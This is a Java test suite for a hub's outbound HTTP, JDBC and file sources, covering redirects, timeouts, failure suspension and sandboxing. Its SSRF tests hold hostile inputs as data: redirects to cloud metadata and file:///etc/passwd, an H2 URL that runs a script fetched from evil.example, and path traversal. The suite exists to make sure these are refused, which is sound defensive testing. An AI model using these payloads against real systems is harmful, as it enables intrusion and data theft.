package io.tongban.hub.outbound;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import com.sun.net.httpserver.HttpExchange;
import com.sun.net.httpserver.HttpServer;
import io.tongban.hub.Problem;
import io.tongban.hub.ProblemException;
import io.tongban.hub.SourceHealth;
import io.tongban.hub.Sources;
import io.tongban.hub.test.TestHub;
import java.io.IOException;
import java.io.InputStream;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.sql.Connection;
import java.sql.DriverManager;
import java.sql.SQLException;
import java.time.Duration;
import java.util.Map;
import java.util.UUID;
import java.util.concurrent.CountDownLatch;
import java.util.concurrent.Executors;
import java.util.concurrent.atomic.AtomicInteger;
import javax.sql.DataSource;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

class SourcesTest {
  private static final String DEPARTMENT =
      """
      apiVersion: tongban.io/v1
      kind: Department
      metadata: {name: agency}
      spec: {}
      ---
      """;
  private final CountDownLatch never = new CountDownLatch(1);
  private TestHub hub;
  private Sources sources;
  private HttpServer server;

  @BeforeEach
  void open() throws IOException {
    hub = TestHub.onH2();
    sources = hub.get(Sources.class);
    server = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
    server.setExecutor(Executors.newCachedThreadPool());
    server.start();
  }

  @AfterEach
  void close() {
    never.countDown();
    server.stop(0);
    hub.close();
  }

  private void source(String how) {
    hub.apply(
        DEPARTMENT
            + """
            apiVersion: tongban.io/v1
            kind: Source
            metadata: {name: it}
            spec:
              department: agency
              %s
            """
                .formatted(how));
  }

  private void web(String further) {
    source(
        "http: {url: \"http://127.0.0.1:%d/base\"%s}"
            .formatted(server.getAddress().getPort(), further));
  }

  private void answer(String path, String text) {
    server.createContext(path, exchange -> send(exchange, 200, text));
  }

  private static void send(HttpExchange exchange, int status, String text) throws IOException {
    byte[] bytes = text.getBytes(StandardCharsets.UTF_8);
    exchange.sendResponseHeaders(status, 0);
    exchange.getResponseBody().write(bytes);
    exchange.close();
  }

  private void redirect(String path, String to) {
    server.createContext(
        path,
        exchange -> {
          exchange.getResponseHeaders().add("Location", to);
          send(exchange, 302, "");
        });
  }

  private String get(String path) throws IOException {
    try (InputStream in = sources.get("it", path, 1000)) {
      return new String(in.readAllBytes(), StandardCharsets.UTF_8);
    }
  }

  private Problem refused(String path) {
    return catchThrowableOfType(ProblemException.class, () -> get(path)).problem();
  }

  @Test
  void readsBelowTheSourcesUrl() throws IOException {
    web(", privateNetwork: true");
    answer("/base/audits.csv", "a,b");
    assertThat(get("audits.csv")).isEqualTo("a,b");
    assertThat(get("/audits.csv?x=1")).isEqualTo("a,b");
  }

  @Test
  void fillsInVariables() throws IOException {
    TestHub.variables(Map.of("PORT", Integer.toString(server.getAddress().getPort())));
    source("http: {url: \"http://127.0.0.1:${PORT}/x\", privateNetwork: true}");
    answer("/x", "found");
    assertThat(get("")).isEqualTo("found");
  }

  @Test
  void anUnsetVariableIsNamed() {
    source("http: {url: \"${NOT_SET}\"}");
    Problem problem = refused("");
    assertThat(problem.code()).isEqualTo("definition-invalid");
    assertThat(problem.detail()).contains("TONGBAN_VAR_NOT_SET");
  }

  @Test
  void attack18SsrfByConnectorUrlToItsOwnMachine() {
    web("");
    assertThat(refused("").code()).isEqualTo("outbound-refused");
  }

  /** The name is judged by the address it resolves to, at each request anew. */
  @Test
  void attack18SsrfByNameThatResolvesToItsOwnMachine() {
    source("http: {url: \"http://localhost:1/base\"}");
    assertThat(refused("").code()).isEqualTo("outbound-refused");
  }

  @Test
  void attack18SsrfByPathThatLeavesTheHost() {
    source("http: {url: \"http://127.0.0.1\", privateNetwork: true}");
    assertThat(refused("?@evil.example/").code()).isNotEqualTo("outbound-refused");
    assertThat(refused("/\u0000").code()).isEqualTo("outbound-refused");
  }

  @Test
  void followsRedirectsWithinItsHosts() throws IOException {
    web(", privateNetwork: true");
    redirect("/base/old", "/base/new");
    answer("/base/new", "moved");
    assertThat(get("old")).isEqualTo("moved");
  }

  @Test
  void postsOnceAndFollowsNoRedirectWithTheBody() throws IOException {
    web(", privateNetwork: true");
    server.createContext(
        "/base/asked",
        exchange ->
            send(
                exchange,
                200,
                exchange.getRequestMethod()
                    + " "
                    + exchange.getRequestHeaders().getFirst("Content-Type")
                    + " "
                    + new String(
                        exchange.getRequestBody().readAllBytes(), StandardCharsets.UTF_8)));
    assertThat(post("asked")).isEqualTo("POST text/plain body");
    redirect("/base/old", "/base/asked");
    Problem problem = catchThrowableOfType(ProblemException.class, () -> post("old")).problem();
    assertThat(problem.code()).isEqualTo("source-unreachable");
    assertThat(problem.detail()).contains("302");
  }

  @Test
  void tellsHowAMessageWasAnswered() {
    web(", privateNetwork: true");
    server.createContext("/base/taken", exchange -> send(exchange, 202, "a".repeat(5000)));
    server.createContext("/base/bad", exchange -> send(exchange, 400, "b".repeat(5000)));
    server.createContext("/base/down", exchange -> send(exchange, 503, "down"));
    redirect("/base/old", "/base/taken");
    Sources.Reply taken = message("taken");
    assertThat(taken.accepted()).isTrue();
    assertThat(taken.status()).isEqualTo(202);
    assertThat(taken.body()).as("nobody reads it").isEmpty();
    Sources.Reply read =
        sources.exchange("it", "taken", "text/plain", new byte[0], 100, Duration.ofSeconds(5));
    assertThat(new String(read.body(), StandardCharsets.UTF_8)).isEqualTo("a".repeat(100));
    Sources.Reply bad = message("bad");
    assertThat(bad.accepted()).isFalse();
    assertThat(bad.status()).isEqualTo(400);
    assertThat(new String(bad.body(), StandardCharsets.UTF_8)).isEqualTo("b".repeat(100));
    for (int status : new int[] {202, 400}) {
      server.createContext("/base/endless" + status, exchange -> endless(exchange, status));
      assertThat(message("endless" + status).status()).isEqualTo(status);
    }
    Sources.Reply old = message("old");
    assertThat(old.status()).as("not followed").isEqualTo(302);
    assertThat(old.accepted()).isFalse();
    Problem down = catchThrowableOfType(ProblemException.class, () -> message("down")).problem();
    assertThat(down.code()).isEqualTo("source-unreachable");
    assertThat(sources.health()).allSatisfy(it -> assertThat(it.inUse()).isZero());
  }

  /** Writes until the other end has had enough. */
  private static void endless(HttpExchange exchange, int status) throws IOException {
    exchange.sendResponseHeaders(status, 0);
    byte[] block = new byte[64 * 1024];
    while (true) {
      exchange.getResponseBody().write(block);
    }
  }

  private Sources.Reply message(String path) {
    byte[] body = "body".getBytes(StandardCharsets.UTF_8);
    return sources.send("it", path, "text/plain", body, 100, Duration.ofSeconds(5));
  }

  private String post(String path) throws IOException {
    byte[] body = "body".getBytes(StandardCharsets.UTF_8);
    try (InputStream in =
        sources.post("it", path, "text/plain", body, 1000, Duration.ofSeconds(5))) {
      return new String(in.readAllBytes(), StandardCharsets.UTF_8);
    }
  }

  @Test
  void attack18SsrfByRedirectToAnotherHostOrScheme() {
    web(", privateNetwork: true");
    redirect("/base/away", "http://metadata.example/");
    redirect("/base/file", "file:///etc/passwd");
    redirect("/base/round", "/base/round");
    assertThat(refused("away").detail()).contains("allowedHosts");
    assertThat(refused("file").detail()).contains("only http and https");
    assertThat(refused("round").detail()).contains("redirects");
  }

  @Test
  void attack18SsrfByRedirectToMetadata() {
    web(", privateNetwork: true, allowedHosts: [\"169.254.169.254\"]");
    redirect("/base/meta", "http://169.254.169.254/latest/meta-data");
    assertThat(refused("meta").detail()).contains("link-local");
  }

  @Test
  void refusesAnAnswerThatIsTooLong() {
    web(", privateNetwork: true");
    answer("/base/long", "x".repeat(1001));
    assertThat(refused("long").code()).isEqualTo("source-answer-too-large");
  }

  @Test
  void tellsTheStatusOfAnotherAnswer() {
    web(", privateNetwork: true");
    server.createContext("/base/gone", exchange -> send(exchange, 410, "secret page"));
    Problem problem = refused("gone");
    assertThat(problem.code()).isEqualTo("source-unreachable");
    assertThat(problem.detail()).contains("410").doesNotContain("secret");
  }

  @Test
  void cutsOffASourceThatDrips() {
    web(", privateNetwork: true, timeoutSeconds: 1");
    server.createContext(
        "/base/drip",
        exchange -> {
          exchange.sendResponseHeaders(200, 0);
          exchange.getResponseBody().write('x');
          exchange.getResponseBody().flush();
          hold();
        });
    assertThat(refused("drip").detail()).contains("longer than 1 seconds");
  }

  private void hold() throws IOException {
    try {
      never.await();
    } catch (InterruptedException e) {
      Thread.currentThread().interrupt();
      throw new IOException(e);
    }
  }

  @Test
  void aSourceThatIsAwayIsNamed() {
    server.stop(0);
    web(", privateNetwork: true");
    Problem problem = refused("");
    assertThat(problem.code()).isEqualTo("source-unreachable");
    assertThat(problem.detail()).contains("\"it\"");
  }

  @Test
  void queriesADatabaseAndFollowsItsDefinition() throws SQLException {
    String first = database("first");
    String second = database("second");
    source("jdbc: {url: \"%s\", user: sa}".formatted(first));
    DataSource kept = sources.jdbc("it");
    assertThat(value(kept)).isEqualTo("first");
    assertThat(sources.product("it")).isEqualTo("h2");
    source("jdbc: {url: \"%s\", user: sa}".formatted(second));
    assertThat(value(kept)).isEqualTo("second");
  }

  private static String database(String value) throws SQLException {
    String url = "jdbc:h2:mem:" + UUID.randomUUID() + ";DB_CLOSE_DELAY=-1";
    try (Connection connection = DriverManager.getConnection(url, "sa", "")) {
      connection.createStatement().execute("CREATE TABLE t AS SELECT '" + value + "' AS x");
    }
    return url;
  }

  private static String value(DataSource source) throws SQLException {
    try (var connection = source.getConnection();
        var statement = connection.createStatement();
        var rows = statement.executeQuery("SELECT x FROM t")) {
      rows.next();
      return rows.getString(1);
    }
  }

  @Test
  void aDatabaseThatIsAwayIsNamedWithoutItsPassword() {
    TestHub.variables(Map.of("SECRET", "opensesame"));
    source(
        "jdbc: {url: \"jdbc:postgresql://127.0.0.1:1/x\", user: reader, password: \"${SECRET}\","
            + " timeoutSeconds: 2}");
    Problem problem =
        catchThrowableOfType(ProblemException.class, () -> sources.jdbc("it").getConnection())
            .problem();
    assertThat(problem.code()).isEqualTo("source-unreachable");
    assertThat(problem.detail()).contains("\"it\"").doesNotContain("opensesame");
  }

  @Test
  void aDatabaseThatStaysAwayIsNotAskedForAWhile() {
    source("jdbc: {url: \"jdbc:postgresql://127.0.0.1:1/x\", timeoutSeconds: 2}");
    for (int i = 0; i < SourceGate.SUSPENDS_AT; i++) {
      assertThat(connectionRefused().detail()).contains("SQL state");
    }
    SourceHealth health = sources.health().get(0);
    assertThat(health.state()).isEqualTo(SourceHealth.State.SUSPENDED);
    assertThat(health.failures()).isEqualTo(SourceGate.SUSPENDS_AT);
    assertThat(connectionRefused().detail())
        .contains("\"it\"")
        .contains("not asked until " + health.nextTry());
    source("jdbc: {url: \"jdbc:postgresql://127.0.0.1:1/x\", timeoutSeconds: 3}");
    assertThat(connectionRefused().detail()).contains("SQL state");
  }

  private Problem connectionRefused() {
    return catchThrowableOfType(ProblemException.class, () -> sources.jdbc("it").getConnection())
        .problem();
  }

  @Test
  void noMoreConnectionsThanASourceHasPlaces() throws SQLException {
    source(
        "jdbc: {url: \"%s\", user: sa, maxConnections: 1, timeoutSeconds: 1}"
            .formatted(database("one")));
    try (Connection only = sources.jdbc("it").getConnection()) {
      assertThat(only.isValid(1)).isTrue();
      assertThat(sources.health().get(0).inUse()).isEqualTo(1);
      assertThat(connectionRefused().code()).isEqualTo("source-busy");
    }
    assertThat(value(sources.jdbc("it"))).isEqualTo("one");
    SourceHealth health = sources.health().get(0);
    assertThat(health.inUse()).isZero();
    assertThat(health.state()).isEqualTo(SourceHealth.State.ANSWERING);
  }

  @Test
  void aSourceThatFailsAfterItConnectedIsSuspendedToo() throws SQLException {
    source("jdbc: {url: \"%s\", user: sa}".formatted(database("one")));
    for (int i = 0; i < SourceGate.SUSPENDS_AT; i++) {
      assertThat(value(sources.jdbc("it"))).isEqualTo("one");
      sources.failed("it");
    }
    assertThat(connectionRefused().detail()).contains("not asked until");
  }

  @Test
  void aWebServiceThatFailsAgainAndAgainIsNotAsked() {
    web(", privateNetwork: true");
    server.createContext("/base/down", exchange -> send(exchange, 500, "stack trace"));
    for (int i = 0; i < SourceGate.SUSPENDS_AT; i++) {
      assertThat(refused("down").detail()).contains("500");
    }
    assertThat(refused("down").detail()).contains("not asked until");
    assertThat(sources.health().get(0).inUse()).isZero();
  }

  @Test
  void whatIsNotThereIsNoFailure() throws IOException {
    web(", privateNetwork: true");
    answer("/base/there", "yes");
    for (int i = 0; i <= SourceGate.SUSPENDS_AT; i++) {
      assertThat(sources.find("it", "gone", 1000, Duration.ofSeconds(5))).isEmpty();
    }
    try (InputStream there = sources.find("it", "there", 1000, Duration.ofSeconds(5)).get()) {
      assertThat(there.readAllBytes()).hasSize(3);
    }
    assertThat(sources.health().get(0).failures()).isZero();
  }

  @Test
  void aRequestIsSentAgainWhereItsConnectionBreaks() throws IOException {
    web(", privateNetwork: true");
    AtomicInteger calls = new AtomicInteger();
    server.createContext(
        "/base/flaky",
        exchange -> {
          if (calls.incrementAndGet() < 3) {
            exchange.close();
          } else {
            send(exchange, 200, "at last");
          }
        });
    assertThat(get("flaky")).isEqualTo("at last");
  }

  @Test
  void aPostgresSourceIsReadOnlyAndHasADeadline() throws SQLException {
    source(
        "jdbc: {url: \"%s\", user: postgres, timeoutSeconds: 7}".formatted(TestHub.postgresUrl()));
    try (var connection = sources.jdbc("it").getConnection();
        var statement = connection.createStatement()) {
      try (var rows = statement.executeQuery("SHOW statement_timeout")) {
        rows.next();
        assertThat(rows.getString(1)).isEqualTo("7s");
      }
      SQLException refused =
          catchThrowableOfType(
              SQLException.class, () -> statement.execute("CREATE TABLE x (y INTEGER)"));
      assertThat(refused.getSQLState()).isEqualTo("25006");
    }
  }

  @Test
  void attack18SsrfByJdbcUrlThatRunsScripts() {
    source("jdbc: {url: \"jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil.example'\"}");
    Problem problem =
        catchThrowableOfType(ProblemException.class, () -> sources.jdbc("it").getConnection())
            .problem();
    assertThat(problem.code()).isEqualTo("outbound-refused");
  }

  @Test
  void aMissingDriverIsNamedWithItsFolderAndWhatToPutThere() {
    source("jdbc: {url: \"jdbc:sqlserver://db.example;databaseName=x\"}");
    Problem problem = connectionRefused();
    assertThat(problem.code()).isEqualTo("driver-missing");
    assertThat(problem.detail()).contains("\"it\"", "sqlserver", "folder drivers", "mssql-jdbc");
  }

  /** The driver tells by its SQL state whether it can see the hub's classes. */
  @Test
  void aDriverInTheFolderIsUsedAndSeesNothingOfTheHub() throws IOException {
    source("jdbc: {url: \"jdbc:sqlserver://db.example;databaseName=x\"}");
    assertThat(connectionRefused().code()).isEqualTo("driver-missing");
    Path folder = Files.createDirectories(hub.settings().dataDirectory().resolve("drivers"));
    driver(folder.resolve("driver.jar"));
    assertThat(connectionRefused().detail()).contains("SQL state ALONE");
    Files.writeString(folder.resolve("broken.jar"), "no jar");
    assertThat(connectionRefused().detail()).contains("SQL state");
  }

  private static void driver(Path jar) throws IOException {
    Path work = Files.createTempDirectory("driver");
    Path code = work.resolve("Alone.java");
    Files.writeString(
        code,
        """
        import java.sql.*;
        import java.util.Properties;
        public class Alone implements Driver {
          public boolean acceptsURL(String url) { return url.startsWith("jdbc:sqlserver:"); }
          public Connection connect(String url, Properties info) throws SQLException {
            try {
              Class.forName("io.tongban.hub.Problem");
              throw new SQLException("hub", "NOT");
            } catch (ClassNotFoundException e) {
              throw new SQLException("alone", "ALONE");
            }
          }
          public DriverPropertyInfo[] getPropertyInfo(String u, Properties p) {
            return new DriverPropertyInfo[0];
          }
          public int getMajorVersion() { return 1; }
          public int getMinorVersion() { return 0; }
          public boolean jdbcCompliant() { return false; }
          public java.util.logging.Logger getParentLogger() { return null; }
        }
        """);
    var compiler = javax.tools.ToolProvider.getSystemJavaCompiler();
    assertThat(compiler.run(null, null, null, "-d", work.toString(), code.toString())).isZero();
    try (var out = new java.util.jar.JarOutputStream(Files.newOutputStream(jar))) {
      out.putNextEntry(new java.util.zip.ZipEntry("Alone.class"));
      Files.copy(work.resolve("Alone.class"), out);
      out.putNextEntry(new java.util.zip.ZipEntry("META-INF/services/java.sql.Driver"));
      out.write("Alone".getBytes(StandardCharsets.UTF_8));
    }
  }

  @Test
  void anUnknownSourceIsNamedWithItsNeighbour() {
    web("");
    Problem problem =
        catchThrowableOfType(ProblemException.class, () -> sources.jdbc("itt")).problem();
    assertThat(problem.code()).isEqualTo("definition-unknown");
    assertThat(problem.detail()).contains("did you mean \"it\"?");
  }

  @Test
  void makesAFolderBelowTheDataDirectory() {
    source("file: {directory: drop/premises}");
    Path folder = sources.directory("it");
    assertThat(folder).isDirectory().startsWith(hub.settings().dataDirectory());
  }

  @Test
  void refusesFoldersElsewhere() throws IOException {
    TestHub.variables(Map.of("UP", "../outside"));
    source("file: {directory: \"${UP}\"}");
    assertThat(folderRefused()).contains("does not lie below");
    source("file: {directory: keys}");
    assertThat(folderRefused()).contains("keys");
    source("file: {directory: drivers/new}");
    assertThat(folderRefused()).contains("drivers");
    Files.createSymbolicLink(
        hub.settings().dataDirectory().resolve("link"), Files.createTempDirectory("elsewhere"));
    source("file: {directory: link}");
    assertThat(folderRefused()).contains("by a link");
  }

  private String folderRefused() {
    Problem problem =
        catchThrowableOfType(ProblemException.class, () -> sources.directory("it")).problem();
    assertThat(problem.code()).isEqualTo("outbound-refused");
    return problem.detail();
  }
}
